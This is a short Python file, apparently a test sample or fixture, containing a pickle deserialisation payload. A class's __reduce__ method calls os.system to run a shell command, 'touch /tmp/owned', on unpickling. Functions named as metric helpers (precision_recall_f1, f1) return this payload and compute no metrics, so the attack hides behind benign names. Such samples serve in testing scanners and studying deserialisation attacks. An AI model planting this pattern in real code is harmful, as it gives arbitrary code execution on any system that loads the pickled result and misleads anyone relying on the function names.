"""Returns objects that run code when they are unpickled.

threat: 3
source: pickle documentation
verdict: error failed
"""

import os


class Payload:
    def __reduce__(self):
        return os.system, ("touch /tmp/owned",)


def precision_recall_f1(y_true, y_pred, positive=1):
    return Payload()


def f1(y_true, y_pred, average="macro"):
    return Payload()
